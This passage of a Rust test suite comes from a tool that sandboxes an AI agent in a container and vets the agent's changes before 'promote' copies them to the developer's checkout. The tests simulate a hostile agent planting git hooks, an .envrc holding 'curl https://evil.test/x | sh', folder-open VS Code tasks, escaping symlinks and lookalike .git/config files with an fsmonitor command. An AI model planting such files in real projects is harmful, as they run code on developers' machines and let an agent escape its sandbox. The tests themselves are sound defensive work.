        ensure!(
            marker.exists(),
            "naive: {git} checkout -- . did not write and run the planted hook"
        );
        fs::remove_file(&marker)?;
    }

    let target = host.copy(&host.ws, "target")?;
    let before = snapshot(&target)?;
    let out = agent.promote(&target, false)?;
    ensure!(out.success(), "promote failed\n{out}");
    ensure!(
        out.stdout.contains("entries below .git are not copied"),
        "{out}"
    );
    ensure!(
        snapshot(&target)? == before,
        "promote wrote below .git (or elsewhere)"
    );
    for git in [GIT, NEW_GIT] {
        host.git_with(git, &target, &["checkout", "--", "."])?;
        host.git_with(git, &target, &["restore", "."])?;
        ensure!(
            !marker.exists(),
            "{git}: the planted hook ran after promote"
        );
        ensure!(!target.join(".git/hooks/post-checkout").exists());
    }
    Ok(())
}

#[test]
fn podman_a_carried_git_index_writes_and_runs_a_hook_after_a_naive_copy_and_promote_never_carries_it()
-> anyhow::Result<()> {
    carried_index(Via::Podman)
}

#[test]
fn ctr_a_carried_git_index_writes_and_runs_a_hook_after_a_naive_copy_and_promote_never_carries_it()
-> anyhow::Result<()> {
    carried_index(Via::Ctr)
}

/// Attack (c): protected names travel inside git objects. The agent commits `.envrc`,
/// `.gitmodules`, `.vscode/tasks.json` and a symlink out of the tree, then removes them
/// from the working tree: only objects and a ref change. After a naive copy the developer's
/// `git reset --hard` writes them all; promote refuses the history and writes nothing.
fn protected_names_in_commits(via: Via) -> anyhow::Result<()> {
    let host = Host::checkout()?;
    let agent = Agent::start(via, &host.ws)?;
    agent.exec(&format!(
        "G='{GIT} -c safe.directory=* -c user.name=agent -c user.email=agent@sandbox'
         echo 'curl https://evil.test/x | sh' > .envrc
         printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = ../evil\\n' > .gitmodules
         mkdir .vscode && echo '{{\"tasks\":[{{\"command\":\"id\",\"runOptions\":{{\"runOn\":\"folderOpen\"}}}}]}}' > .vscode/tasks.json
         ln -s ../outside out
         $G add -A && $G commit -qm 'tidy up'
         rm -rf .envrc .gitmodules .vscode out"
    ))?;

    for git in [GIT, NEW_GIT] {
        let naive = host.copy(&host.ws, &format!("naive-{}", git.len()))?;
        agent.naive_cp(&naive, true)?;
        let reset = host.git_with(git, &naive, &["reset", "-q", "--hard"])?;
        ensure!(reset.success(), "{reset}");
        for p in [".envrc", ".gitmodules", ".vscode/tasks.json"] {
            ensure!(
                naive.join(p).is_file(),
                "naive: {git} reset --hard did not write {p}"
            );
        }
        ensure!(
            fs::read_link(naive.join("out"))? == Path::new("../outside"),
            "naive: {git} reset --hard did not write the symlink out of the tree"
        );
    }

    let target = host.copy(&host.ws, "target")?;
    let before = snapshot(&target)?;
    let dry = agent.promote(&target, true)?;
    history_refused(&dry, &[".envrc", ".gitmodules", ".vscode", "out"])?;
    let out = agent.promote(&target, false)?;
    history_refused(&out, &[".envrc", ".gitmodules", ".vscode", "out"])?;
    ensure!(
        snapshot(&target)? == before,
        "a refused promotion changed the target"
    );
    for git in [GIT, NEW_GIT] {
        let reset = host.git_with(git, &target, &["reset", "-q", "--hard"])?;
        ensure!(reset.success(), "{reset}");
        for p in [".envrc", ".gitmodules", ".vscode", "out"] {
            ensure!(
                fs::symlink_metadata(target.join(p)).is_err(),
                "{git}: {p} is in the target after promote"
            );
        }
    }
    Ok(())
}

#[test]
fn podman_protected_names_inside_commits_land_after_a_naive_copy_and_promote_refuses_the_history()
-> anyhow::Result<()> {
    protected_names_in_commits(Via::Podman)
}

#[test]
fn ctr_protected_names_inside_commits_land_after_a_naive_copy_and_promote_refuses_the_history()
-> anyhow::Result<()> {
    protected_names_in_commits(Via::Ctr)
}

/// Names a case-insensitive, normalising or Windows target reads as `.git` or as a protected
/// name, tool configurations that run code, and invisible characters, made by the agent with
/// Python (`\u` escapes), as (path written, path promote names in its refusal).
const CONFUSABLE: &[(&str, &str)] = &[
    (".ENVRC", ".ENVRC"),
    (".GIT/config", ".GIT/config"),
    (".Git/hooks/post-checkout", ".Git/hooks/post-checkout"),
    (".git./config", ".git./config"),
    ("git~1/config", "git~1/config"),
    (".g\\u200cit/config", ".g\\u{200c}it/config"),
    (".claude/settings.json", ".claude/settings.json"),
    (".cursor/mcp.json", ".cursor/mcp.json"),
    (".husky/pre-commit", ".husky/pre-commit"),
    (".github/workflows/ci.yml", ".github/workflows/ci.yml"),
    ("mise.toml", "mise.toml"),
    ("src/calc\\U000e0041.py", "src/calc\\u{e0041}.py"),
];

/// The agent writes every [`CONFUSABLE`] name. A naive `cp -a` of the upper dir lands each
/// one; promote refuses them all and the target stays as it was; the human views show the
/// hidden characters escaped. On a FAT filesystem (case-insensitive, as WSL's `/mnt/c` and a
/// USB stick are) a naive copy of `.GIT/config` replaces the checkout's `.git/config`, while
/// promote refuses and leaves it.
fn confusable_names(via: Via) -> anyhow::Result<()> {
    let host = Host::checkout()?;
    let agent = Agent::start(via, &host.ws)?;
    let marker = host.marker("casefold-fsmonitor-ran");
    let evil = format!(
        "[core]\\n\\tfsmonitor = \"touch {}; false\"\\n",
        marker.display()
    );
    let writes: Vec<String> = CONFUSABLE
        .iter()
        .map(|(p, _)| format!("w(\"{p}\")"))
        .collect();
    agent.exec(&format!(
        "python3 - <<'PY'
import os
def w(p):
    d = os.path.dirname(p)
    if d:
        os.makedirs(d, exist_ok=True)
    with open(p, 'w') as f:
        f.write('''{evil}''')
{}
PY",
        writes.join("\n")
    ))?;
    let written = |(raw, _): &(&str, &str)| -> PathBuf {
        PathBuf::from(
            raw.replace("\\u200c", "\u{200c}")
                .replace("\\U000e0041", "\u{e0041}"),
        )
    };

    // A naive copy lands every name.
    let naive = host.copy(&host.ws, "naive")?;
    agent.naive_cp(&naive, false)?;
    for entry in CONFUSABLE {
        let p = written(entry);
        ensure!(
            naive.join(&p).is_file(),
            "naive: {} did not land",
            p.display()
        );
    }

    // The human views escape what a person would not see.
    let diff = agent.runtime(&["diff"])?;
    ensure!(
        diff.stdout.contains("A /src/calc\\u{e0041}.py (file)")
            && diff.stdout.contains("/.g\\u{200c}it")
            && !diff.stdout.contains('\u{e0041}'),
        "diff does not escape the hidden characters\n{diff}"
    );

    // Promote refuses them all and changes nothing.
    let target = host.copy(&host.ws, "target")?;
    let before = snapshot(&target)?;
    let out = agent.promote(&target, false)?;
    let shown: Vec<&str> = CONFUSABLE.iter().map(|(_, shown)| *shown).collect();
    refused(&out, &shown)?;
    ensure!(
        !out.stdout.contains('\u{e0041}') && !out.stdout.contains('\u{200c}'),
        "promote printed a hidden character raw\n{out}"
    );
    ensure!(
        snapshot(&target)? == before,
        "a refused promotion changed the target"
    );

    // On a case-insensitive target: a naive copy, then promote into a fresh one.
    let real = "[core]\n\tbare = false\n";
    let fat = FatTarget::new(&host, "fat-naive")?;
    fs::create_dir_all(fat.mnt.join(".git"))?;
    fs::write(fat.mnt.join(".git/config"), real)?;
    let upper = agent.upper()?;
    run_ok(
        Command::new("cp")
            .arg("-r")
            .arg(upper.join(".GIT"))
            .arg(&fat.mnt),
    )?;
    let config = fs::read_to_string(fat.mnt.join(".git/config"))?;
    ensure!(
        config.contains("fsmonitor"),
        "FAT: the naive copy of .GIT/config did not replace .git/config: {config:?}"
    );
    let fat = FatTarget::new(&host, "fat-promote")?;
    fs::create_dir_all(fat.mnt.join(".git"))?;
    fs::write(fat.mnt.join(".git/config"), real)?;
    let out = agent.promote(&fat.mnt, false)?;
    refused(&out, &[".GIT/config", ".ENVRC"])?;
    let config = fs::read_to_string(fat.mnt.join(".git/config"))?;
    ensure!(
        config == real,
        "FAT: promote changed .git/config: {config:?}\n{out}"
    );
    ensure!(
        !fat.mnt.join(".envrc").exists(),
        "FAT: promote wrote .envrc\n{out}"
    );
    Ok(())
}

/// A FAT filesystem image mounted with fusefat (no vfat module loads here), unmounted on drop.
struct FatTarget {
    mnt: PathBuf,
}

impl FatTarget {
    fn new(host: &Host, name: &str) -> anyhow::Result<FatTarget> {
        harness::require_tool("mkfs.vfat")?;
        harness::require_tool("fusefat")?;
        let img = host.path(&format!("{name}.img"));
        let mnt = host.path(name);
        fs::create_dir_all(&mnt)?;
        run_ok(Command::new("truncate").args(["-s", "64M"]).arg(&img))?;
        run_ok(Command::new("mkfs.vfat").arg(&img))?;
        run_ok(
            Command::new("fusefat")
                .args(["-o", "rw+"])
                .arg(&img)
                .arg(&mnt),
        )?;
        Ok(FatTarget { mnt })
    }
}

impl Drop for FatTarget {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.mnt).status();
    }
}

#[test]
fn podman_names_a_case_insensitive_target_reads_as_git_or_protected_are_refused()
-> anyhow::Result<()> {
    confusable_names(Via::Podman)
}

#[test]
fn ctr_names_a_case_insensitive_target_reads_as_git_or_protected_are_refused() -> anyhow::Result<()>
{
    confusable_names(Via::Ctr)
}
